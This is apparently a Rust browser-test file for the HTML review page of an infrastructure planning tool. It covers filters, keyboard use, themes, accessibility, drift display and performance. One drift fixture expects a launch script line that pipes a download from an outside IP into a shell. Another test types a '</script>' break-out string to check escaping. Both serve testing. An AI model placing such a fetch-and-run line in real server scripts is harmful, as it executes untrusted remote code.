//! The page as a reviewer uses it. Each test opens a browser of its own.

use std::path::PathBuf;
use std::time::{Duration, Instant};

use serde_json::json;
use tonnage_golden_tests::in_process;
use tonnage_plan::{Check, Evidence};
use tonnage_report::{PlanView, page};

use crate::{browser::Browser, made};

fn plan_page() -> (tempfile::TempDir, PathBuf) {
    page_of("shown_in_other_forms")
}

fn page_of(case: &str) -> (tempfile::TempDir, PathBuf) {
    let (folder, _) = made::planned(case);
    let shown = in_process(folder.path(), &["show", "plan", "-html=plan.html"]);
    assert_eq!(shown.code, 0, "{}", shown.err);
    let file = folder.path().join("plan.html");
    (folder, file)
}

#[test]
fn a_reviewer_reads_filters_and_opens() {
    let (_folder, file) = plan_page();
    let mut browser = Browser::open(1280, 900);
    browser.wish("light");
    browser.goto(&file, "");
    browser.picture("light", true);
    let rows = "document.querySelectorAll('#list > li').length";
    let all = browser.eval(rows).as_u64().expect("a number");
    assert!(all >= 5, "{all} rows");
    assert_eq!(browser.eval("document.querySelector('#list > li').className"), "change hurt", "what hurts comes first");

    // text that wants to break out is text
    assert_eq!(browser.eval("window.broken === undefined"), json!(true));
    browser.click("#search");
    browser.write("</script>");
    browser.until("document.querySelectorAll('#list > li').length === 1");
    browser.key("Escape");
    browser.until(&format!("{rows} === {all}"));
    browser.key("Escape");

    // filters
    browser.click(".chip[data-risk=replaces]");
    let replaced = browser.eval(rows).as_u64().expect("a number");
    assert!(replaced > 0 && replaced < all, "{replaced} of {all}");
    assert_eq!(
        browser.eval("document.querySelector('.chip[data-risk=replaces]').getAttribute('aria-pressed')"),
        "true"
    );
    browser.key("Escape");
    browser.eval("document.getElementById('pool').value = 'resource.vpc', document.getElementById('pool').dispatchEvent(new Event('change'))");
    assert_eq!(browser.eval(rows), json!(1));
    browser.key("Escape");
    assert_eq!(browser.eval(rows), json!(all));

    // keys: the next one, open, what is in it, close
    browser.key("j");
    browser.key("j");
    browser.key("k");
    browser.key("Enter");
    browser.until("document.querySelectorAll('#list > li .body').length === 1");
    assert_eq!(browser.eval("document.activeElement.getAttribute('aria-expanded')"), "true");
    assert_eq!(browser.eval("document.activeElement.parentNode === document.querySelector('#list > li')"), json!(true));
    browser.picture("opened", false);
    browser.key("Enter");
    browser.until("document.querySelectorAll('#list > li .body').length === 0");
    browser.key("/");
    assert_eq!(browser.eval("document.activeElement.id"), "search");
    browser.write("no such thing anywhere");
    browser.until("!document.getElementById('empty').hidden");
    browser.click("#clear");
    assert_eq!(browser.eval(rows), json!(all));
    browser.click("h1");
    browser.eval("document.activeElement.blur()");
    browser.key("?");
    browser.until("document.getElementById('help').open");
    browser.key("Escape");
    browser.until("!document.getElementById('help').open");

    // a click opens a change; a property shows the author's line
    browser.click("#list > li:first-child > button");
    browser.until("document.querySelectorAll('#list > li .body').length === 1");
    let text = browser.eval("document.getElementById('list').textContent");
    assert!(text.as_str().is_some_and(|text| text.contains("main.fleet.hcl:")), "{text}");
    assert_eq!(browser.complaints(), Vec::<String>::new());
}

#[test]
fn light_and_dark_names_and_deep_links() {
    let (_folder, file) = plan_page();
    let mut browser = Browser::open(1280, 900);
    browser.wish("dark");
    browser.goto(&file, "");
    let ground = "getComputedStyle(document.body).backgroundColor";
    let dark = browser.eval(ground);
    browser.picture("dark", true);
    browser.wish("light");
    browser.until(&format!("{ground} !== {dark}"));
    browser.key("t");
    assert_eq!(browser.eval(ground), dark, "the reader's choice goes before the system's");
    browser.key("t");

    for (role, name) in browser.accessible() {
        let named = !matches!(role.as_str(), "button" | "link" | "searchbox" | "combobox" | "region" | "dialog")
            || !name.trim().is_empty();
        assert!(named, "a {role} has no name");
    }
    let roles: Vec<String> = browser.accessible().into_iter().map(|(role, _)| role).collect();
    for wanted in ["banner", "main", "heading", "searchbox", "combobox", "list", "listitem", "table", "status"] {
        assert!(roles.iter().any(|role| role == wanted), "no {wanted} among {roles:?}");
    }

    browser.goto(&file, "#resource.vpc");
    browser.until("document.querySelectorAll('#list > li .body').length === 1");
    let opened = browser.eval("document.querySelector('#list > li:has(.body)').textContent");
    assert!(opened.as_str().is_some_and(|text| text.contains("resource.vpc")), "{opened}");
    browser.until("(() => { const r = document.querySelector('#list > li:has(.body)').getBoundingClientRect(); return r.top >= 0 && r.top < innerHeight; })()");
    browser.picture("deep-link", false);
    assert_eq!(browser.complaints(), Vec::<String>::new());
}

#[test]
fn what_others_did_is_shown_with_what_changed_inside_and_the_way_out() {
    let (_folder, file) = page_of("drift_shown_in_other_forms");
    let mut browser = Browser::open(1280, 900);
    browser.wish("light");
    browser.goto(&file, "");
    browser.picture("drift", true);
    let line = |label: &str| {
        format!(
            "[...document.querySelectorAll('#drift-body > li')].find(li => li.querySelector('.address').textContent === {label:?})"
        )
    };
    let count = "document.querySelectorAll('#drift-body > li').length";
    assert_eq!(browser.eval(count), json!(7));
    assert_eq!(browser.eval("document.getElementById('drift-count').textContent"), "9 differences, 1 left alone");

    // who gets in comes first
    let first = browser.eval("document.querySelector('#drift-body > li').innerText");
    assert!(first.as_str().is_some_and(|text| text.contains("decides who gets in")), "{first}");

    // all three sides of a conflict
    let conflict = browser.eval(&format!("{}.innerText", line("resource.vpc.Tags[\"Name\"]")));
    let conflict = conflict.as_str().expect("text");
    for said in
        ["conflict", "\"golden\"", "now, by somebody else", "\"mine\"", "\"silver\"", "what the file says will stand"]
    {
        assert!(conflict.contains(said), "{said}: {conflict}");
    }

    // a document by its properties, a script by its lines, a sentence by its words; three alike are one line
    let inside = |selector: &str, label: &str| {
        format!("[...{}.querySelectorAll('{selector}')].map(e => e.textContent).join('|')", line(label))
    };
    assert_eq!(
        browser.eval(&inside(".inside .path", "resource.read.PolicyDocument")),
        "Statement[0].Action[0]|Statement[0].Action[1]"
    );
    let script = browser.eval(&inside(".inside .line", "resource.node.LaunchTemplateData.UserData"));
    assert!(script.as_str().is_some_and(|text| text.contains("curl -s http://198.51.100.7/x | sh")), "{script}");
    assert_eq!(browser.eval(&inside(".inside del, .inside ins", "resource.notice.Value")), "Tuesday|Friday");
    assert_eq!(browser.eval(&inside(".title .times", "resource.notice.Value")), "3×");

    // the ways out; what is left alone says so; what was deleted is made again
    let ways = browser.eval(&inside(".ways code", "resource.vpc.Tags[\"cost\"]"));
    // the file changes other tags of it: they can't be left alone together
    assert_eq!(ways, "tonnage adopt 'resource.vpc.Tags[\"cost\"]'");
    assert_eq!(browser.eval(&inside(".tag", "resource.corpus.Tags[\"team\"]")), "left alone");
    assert_eq!(browser.eval(&inside(".ways code", "resource.door")), "tonnage adopt resource.door");

    // a button that copies has the command in its name, and answers
    let named = browser.accessible();
    assert!(
        named.iter().any(|(role, name)| role == "button" && name == "Copy: tonnage adopt resource.door"),
        "{named:?}"
    );
    browser.click("#drift-body .copy");
    browser.until("['copied', 'selected'].includes(document.querySelector('#drift-body .copy').textContent)");

    // from there to the change, which shows the same inside; what undoes others is a filter of its own
    browser.eval(&format!("{}.querySelector('a.address').click()", line("resource.read.PolicyDocument")));
    browser.until("document.querySelectorAll('#list > li .body').length === 1");
    let open = browser.eval("document.querySelector('#list > li .body').innerText");
    let open = open.as_str().expect("text");
    for said in [
        "Statement[0].Action[0]",
        "changed by others",
        "main.fleet.hcl:26",
        "tonnage plan -ignore-drift resource.read.PolicyDocument",
    ] {
        assert!(open.contains(said), "{said}: {open}");
    }
    browser.picture("drift-opened", false);
    browser.click(".chip[data-risk=undoes_others]");
    assert_eq!(browser.eval("document.querySelectorAll('#list > li').length"), json!(5));
    assert_eq!(browser.complaints(), Vec::<String>::new());
}

/// Wherever it is read: nothing is cut off or stands out of the page at the side, on a telephone or a wall. What is
/// wider scrolls by itself. What a cloud says otherwise stands in the title, among what needs attention, and in a table
/// with its reasons.
#[test]
fn a_second_opinion_is_shown_before_the_changes() {
    let (folder, file) = page_of("the_cloud_says_something_else");
    let planned = in_process(folder.path(), &["plan", "--embedded", "-verify", "-html=plan.html"]);
    assert_eq!(planned.code, 0, "{}", planned.err);
    let mut browser = Browser::open(1280, 900);
    browser.goto(&file, "");
    let has = |browser: &mut Browser, selector: &str, text: &str| {
        browser.eval(&format!("document.querySelector('{selector}').textContent.includes('{text}')"))
    };
    assert_eq!(has(&mut browser, "h1", "would take away more"), json!(true));
    assert_eq!(has(&mut browser, "#alarms .alarm.hurt", "The cloud says"), json!(true));
    assert_eq!(browser.eval("document.querySelectorAll('#opinion tbody tr').length"), json!(4));
    assert_eq!(has(&mut browser, "#opinion tbody tr", "LaunchTemplate.Version"), json!(true));
    assert_eq!(browser.eval("document.querySelector('#opinion .word.hurt').textContent"), "replace");
    let before = "document.getElementById('opinion').compareDocumentPosition(document.getElementById('changes')) & 4";
    assert_eq!(browser.eval(before), json!(4));
    browser.picture("second-opinion", true);
    assert_eq!(browser.complaints(), Vec::<String>::new());
}

#[test]
fn no_width_cuts_anything_off() {
    for case in ["drift_shown_in_other_forms", "shown_in_other_forms"] {
        let (_folder, file) = page_of(case);
        for (width, name) in [(360, "narrow"), (1920, "wide")] {
            let mut browser = Browser::open(width, 900);
            browser.wish("dark");
            browser.goto(&file, "");
            browser.eval("document.querySelectorAll('#list > li > button').forEach(button => button.click())");
            let over = browser.eval("document.documentElement.scrollWidth - innerWidth");
            browser.picture(&format!("{case}-{name}"), true);
            assert_eq!(over, json!(0), "{case} at {width}");
            let cut = browser.eval(
                "[...document.querySelectorAll('main *')].filter(e => !e.closest('.scroll') && !e.closest('.hidden') \
                 && e.getBoundingClientRect().right > innerWidth).map(e => e.className + ': ' + e.textContent)",
            );
            assert_eq!(cut, json!([]), "{case} at {width}");
        }
    }
}

#[test]
fn ten_thousand_checks_are_a_few_lines_and_each_can_be_seen() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    let file = folder.path().join("checked.html");
    let mut plan = made::large(10);
    let check = |n: usize| {
        let needed = if n.is_multiple_of(2) { 8 } else { 4 };
        let subject = format!("pool.train/primary us-east-1 zone-{n:05}");
        Evidence::judged(Check::Capacity, subject, needed, 4, "node", "placement scores".to_owned())
    };
    plan.preflight = (0..10_000).map(check).collect();
    std::fs::write(&file, page::plan(&PlanView::of(&plan))).expect("a written page");
    let mut browser = Browser::open(1280, 900);
    browser.goto(&file, "");
    let lines = "[...document.querySelectorAll('#evidence-body > table > tbody > tr')].map(row => row.innerText)";
    browser.until(&format!("{lines}.length === 2"));
    let said = browser.eval(lines).to_string();
    for words in ["short by 4 nodes", "pool.train/primary, 5,000 places", "needs 8 nodes; 4 can be had", "5,000 checks"]
    {
        assert!(said.contains(words), "{words}: {said}");
    }
    browser.click("#evidence-body button[aria-expanded]");
    let members = "document.querySelectorAll('#evidence-body .scroll tbody tr').length";
    browser.until(&format!("{members} === 150"));
    browser.click("#evidence-body .scroll > button");
    browser.until(&format!("{members} === 300"));
    let last = browser.eval("[...document.querySelectorAll('#evidence-body .scroll tbody tr')].at(-1).innerText");
    assert!(last.as_str().is_some_and(|text| text.contains("zone-00598")), "{last}");
    browser.click("#evidence-body button[aria-expanded]");
    browser.until(&format!("{members} === 0"));
    assert_eq!(browser.complaints(), Vec::<String>::new());
}

#[test]
fn ten_thousand_changes_are_quick_to_open_and_to_search() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    let file = folder.path().join("large.html");
    let plan = made::large(10_000);
    std::fs::write(&file, page::plan(&PlanView::of(&plan))).expect("a written page");
    let mut browser = Browser::open(1280, 900);
    let started = Instant::now();
    browser.goto(&file, "");
    browser.until("document.querySelectorAll('#list > li').length > 50");
    let opened = started.elapsed();
    assert!(opened < Duration::from_secs(10), "{opened:?}");
    assert_eq!(browser.eval("document.querySelectorAll('#list > li').length < 1000"), json!(true), "not all is drawn");
    assert_eq!(browser.eval("document.querySelector('#list > li').textContent.includes('group_05000')"), json!(true));
    browser.picture("ten-thousand", false);
    browser.key("/");
    browser.write("group_09999");
    let started = Instant::now();
    browser.until("document.querySelectorAll('#list > li').length === 1");
    assert!(started.elapsed() < Duration::from_secs(5), "{:?}", started.elapsed());
    browser.goto(&file, "#pool.p039.only.group_09999");
    browser.until("document.querySelectorAll('#list > li .body').length === 1");
    assert_eq!(browser.complaints(), Vec::<String>::new());
}
